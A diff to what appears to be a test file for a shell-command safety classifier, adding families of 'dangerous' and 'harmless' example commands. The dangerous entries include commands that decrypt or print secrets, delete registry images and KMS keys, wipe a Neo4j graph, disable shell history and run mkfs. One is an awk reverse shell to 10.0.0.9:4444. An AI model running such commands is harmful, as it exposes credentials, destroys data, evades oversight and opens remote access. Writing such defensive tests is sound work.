@@ -148,6 +148,80 @@ const FAMILIES: Record<string, { dangerous: string[]; harmless: string[] }> = {
     dangerous: ["nvme sanitize /dev/nvme0n1 -a 2", "blkzap --secure-erase /dev/sdb", "storcli trim /dev/sdc"],
     harmless: ["nvme smart-log /dev/nvme0n1", "nvme list", "smartctl -a /dev/sda"],
   },
+  "decryption, and entries of a known store shown": {
+    dangerous: [
+      "lpass show --password github",
+      "chamber read prod db-password",
+      "age -d -i key.txt secrets.age",
+      "rage --decrypt -i key.txt backup.tar.age",
+      "gpg -d secrets.gpg",
+      "gpg --output plain.txt --decrypt notes.gpg",
+      "vaultctl decrypt deploy/prod.enc",
+    ],
+    harmless: [
+      "gpg --verify release.tar.gz.sig",
+      "lpass ls",
+      "bw get template item",
+      "age -e -r age1xyz -o notes.age notes.txt",
+    ],
+  },
+  "options printing secrets in clear": {
+    dangerous: [
+      "pulumi stack output --show-secrets",
+      "pulumi config get dbPassword --show-secrets",
+      "terraform output -raw db_password",
+    ],
+    harmless: [
+      "pulumi stack output",
+      "terraform output -raw bucket_name",
+      "terraform output -json",
+      "doppler secrets --only-names",
+    ],
+  },
+  "artifacts withdrawn from a registry": {
+    dangerous: [
+      "regctl tag delete ghcr.io/acme/shop:v1",
+      "oras manifest delete ghcr.io/acme/shop:v1",
+      "imgtool image rm registry.example.com:5000/app@sha256:0123456789abcdef0123",
+    ],
+    harmless: ["aws s3 rm s3://acme-dev/tmp/x.json", "docker rmi node:18", "regctl tag ls ghcr.io/acme/shop"],
+  },
+  "deletion written as a noun": {
+    dangerous: [
+      "aws kms schedule-key-deletion --key-id 1234 --pending-window-in-days 7",
+      "mycloud schedule-project-deletion --project acme",
+    ],
+    harmless: ["aws rds modify-db-instance --db-instance-identifier prod-db --deletion-protection"],
+  },
+  "graph queries over HTTP": {
+    dangerous: [
+      `curl -X POST localhost:7474/db/neo4j/tx/commit -d '{"statements":[{"statement":"MATCH (n) DETACH DELETE n"}]}'`,
+    ],
+    harmless: [
+      `curl -X POST localhost:7474/db/neo4j/tx/commit -d '{"statements":[{"statement":"MATCH (n) RETURN count(n)"}]}'`,
+      `curl -X POST localhost:7474/db/neo4j/tx/commit -d '{"statements":[{"statement":"MATCH (n:User {id: 1}) DELETE n"}]}'`,
+    ],
+  },
+  "the shell's history switched off": {
+    dangerous: [
+      "unset HISTFILE",
+      "HISTSIZE=0",
+      "export HISTFILESIZE=0",
+      "set +o history",
+      "export HISTFILE=/dev/null",
+    ],
+    harmless: ["export HISTSIZE=10000", "set -o history", "unset FOO", "set -euo pipefail"],
+  },
+  "sockets in awk": {
+    dangerous: [
+      `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.9/4444"; while (1) {s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}'`,
+    ],
+    harmless: ["awk '{print $1}' access.log"],
+  },
+  "simulations and defences": {
+    dangerous: ["apt-get remove -y nginx", "mkfs.ext4 /dev/sdb1", "aa-teardown"],
+    harmless: ["apt-get -s remove nginx", "mkfs.ext4 -n /dev/sdb1", "mkfs.xfs -N /dev/sdb", "aa-status"],
+  },
 };
 
 beforeAll(() => loadShellParser());
